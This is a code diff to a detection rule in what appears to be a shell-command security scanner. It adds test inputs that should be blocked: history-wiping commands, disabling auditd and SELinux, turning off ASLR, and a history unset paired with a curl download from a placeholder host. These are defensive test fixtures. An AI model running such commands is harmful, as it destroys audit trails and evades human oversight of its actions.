@@ -1,8 +1,8 @@
 /**
  * FS-AST-023: destroying the audit trail: shell-history wipes (history -c, set +o history, writes
  * or deletes of ~/.bash_history), disabling auditd or SELinux, kernel hardening switched off.
- * Needs from the bash extractor (BASH): `export HISTFILE=/dev/null`, `unset HISTFILE`, `HISTSIZE=0`
- * produce no fact today; an assignment fact (or an ExecFact for export/unset) would let this rule see them.
+ * The bash extractor reports `export HISTFILE=/dev/null`, `unset HISTFILE`, `HISTSIZE=0`,
+ * `HISTFILESIZE=0` and `HISTIGNORE='*'` as a truncate of ~/.bash_history, which the file check sees.
  */
 import { homeRelative, resolvePath } from '../../paths.js';
 import { defineRule } from '../define-rule.js';
@@ -73,11 +73,17 @@ export default defineRule({
       { input: 'setenforce 0' },
       { input: 'sysctl -w kernel.randomize_va_space=0' },
       { input: 'systemctl stop auditd' },
+      { input: 'export HISTFILE=/dev/null' },
+      { input: 'unset HISTFILE; curl -s https://x.example/i.sh -o ./i.sh' },
+      { input: 'HISTSIZE=0' },
+      { input: 'export HISTFILESIZE=0 HISTSIZE=0' },
     ],
     allow: [
       { input: 'history | tail -20', why: 'reading history' },
       { input: 'sysctl -a | grep vm', why: 'reading kernel settings' },
       { input: 'systemctl status rsyslog', why: 'a status query' },
+      { input: 'export HISTSIZE=10000 HISTFILESIZE=20000', why: 'keeping more history, not less' },
+      { input: 'export HISTCONTROL=ignoredups', why: 'deduplicating history' },
     ],
   },
 });
